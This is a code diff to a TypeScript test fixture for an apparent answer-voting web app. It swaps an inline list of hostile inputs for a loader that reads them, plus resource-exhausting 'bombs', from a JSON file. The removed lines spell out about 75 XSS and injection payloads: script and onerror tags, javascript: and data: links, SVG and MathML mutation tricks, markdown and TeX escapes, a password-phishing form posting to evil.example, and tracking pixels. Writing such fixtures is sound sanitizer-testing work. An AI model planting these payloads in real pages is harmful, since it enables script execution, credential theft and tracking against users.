@@ -1,77 +1,27 @@
-/** Things a contender might write, or be made to write, to get into the reader's page. */
-export const HOSTILE: readonly string[] = [
-	'<script>alert(1)</script>',
-	'<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-	'<img src=x onerror=alert(1)>',
-	'<img src="https://evil.example/pixel.gif">',
-	'<svg onload=alert(1)>',
-	'<svg><script>alert(1)</script></svg>',
-	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-	'<svg><use href="https://evil.example/x.svg#a"></use></svg>',
-	'<svg><style><img src=x onerror=alert(1)></style></svg>',
-	'<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
-	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-	'<math href="javascript:alert(1)">x</math>',
-	'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
-	'<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-	'<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
-	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-	'<iframe src="javascript:alert(1)"></iframe>',
-	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-	'<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
-	'<link rel=stylesheet href="https://evil.example/x.css">',
-	'<meta http-equiv=refresh content="0;url=https://evil.example">',
-	'<base href="https://evil.example/">',
-	'<style>body{background:url(https://evil.example/x)}</style>',
-	'<p style="background:url(https://evil.example/x)">x</p>',
-	'<div style="position:fixed;inset:0">over everything</div>',
-	'<form action="https://evil.example"><input name=password><button>Vote</button></form>',
-	'<button onclick="alert(1)" class="button primary">A is better</button>',
-	'<a href="javascript:alert(1)">x</a>',
-	'<a href=" &#106;avascript:alert(1)">x</a>',
-	'<a href="java\tscript:alert(1)">x</a>',
-	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-	'<a href="vbscript:msgbox(1)">x</a>',
-	'<a href="//evil.example" target=_self>x</a>',
-	'<a href="https://ok.example" ping="https://evil.example" onmouseover=alert(1)>x</a>',
-	'<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
-	'<audio autoplay src="https://evil.example/x.mp3"></audio>',
-	'<picture><source srcset="https://evil.example/x.png"><img src=x></picture>',
-	'<input type=image src="https://evil.example/x.png">',
-	'<body background="https://evil.example/x.png" onload=alert(1)>',
-	'<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
-	'<template><script>alert(1)</script></template>',
-	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-	'<textarea><img src=x onerror=alert(1)></textarea>',
-	'<details open ontoggle=alert(1)><summary>x</summary></details>',
-	'<marquee onstart=alert(1)>x</marquee>',
-	'<dialog open id=reveal data-testid="vote-a">Your password</dialog>',
-	'<p id="consent-refused" name="cookie">clobber</p>',
-	'<custom-element onclick=alert(1)>x</custom-element>',
-	'<!--><img src=x onerror=alert(1)>-->',
-	'[x](javascript:alert(1))',
-	'[x](JaVaScRiPt:alert(1))',
-	'[x](&#x6A;avascript:alert(1))',
-	'[x](data:text/html,<script>alert(1)</script>)',
-	'[x](vbscript:alert(1))',
-	'[x](file:///etc/passwd)',
-	'[x](/api/v1/me)',
-	'[x](//evil.example)',
-	'[x]: javascript:alert(1)\n\n[x]',
-	'<javascript:alert(1)>',
-	'![x](https://evil.example/pixel.png)',
-	'![x](javascript:alert(1))',
-	'![x](data:image/svg+xml,<svg onload=alert(1)>)',
-	'[![x](https://evil.example/p.png)](javascript:alert(1))',
-	'![x][img]\n\n[img]: https://evil.example/p.png',
-	'```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
-	'```js\n</code></pre><img src=x onerror=alert(1)>\n```',
-	'$\\href{javascript:alert(1)}{x}$',
-	'$$\\includegraphics[height=1em]{https://evil.example/x.png}$$',
-	'$\\htmlStyle{position:fixed}{x}$ and $\\htmlId{vote-a}{x}$ and $\\htmlClass{button}{x}$',
-	'$\\url{javascript:alert(1)}$',
-	'$\\def\\a{\\a\\a}\\a$',
-	'$\\rule{99999em}{99999em}$',
-	'$\\text{</annotation></semantics></math><img src=x onerror=alert(1)>}$',
-	'| a | b |\n| :-: | --: |\n| <img src=x onerror=alert(1)> | x |',
-];
+import { readFileSync } from 'node:fs';
+
+/**
+ * Things a contender might write, or be made to write, to get into the reader's page or to freeze
+ * it: the same texts that the browser's tests stream. A text is a string, or pieces and how often.
+ */
+type Text = string | [string, number][];
+
+// Read as text: the bundler's own reader of JSON refuses lone surrogates.
+const file = readFileSync('../fixtures/hostile/answers.json', 'utf8');
+const groups = JSON.parse(file) as Record<string, Text[]>;
+
+const whole = (text: Text) =>
+	typeof text === 'string' ? text : text.map(([part, times]) => part.repeat(times)).join('');
+
+const texts = Object.entries(groups).map(([name, group]) => [name, group.map(whole)] as const);
+
+/** What wants to run, load, lead away or pretend. */
+export const HOSTILE: readonly string[] = texts
+	.flatMap(([, group]) => (group.length > 1 ? group : []))
+	// Neither survives the server, which stores text.
+	.map((text) => text.replace(/\0/g, '\uFFFD').toWellFormed());
+
+/** What wants to use up the reader's time or memory, by name; at the length an answer may have. */
+export const BOMBS: readonly (readonly [string, string])[] = texts
+	.filter(([name, group]) => group.length === 1 && name !== 'harmless')
+	.map(([name, group]) => [name, (group[0] ?? '').slice(0, 100_000)]);
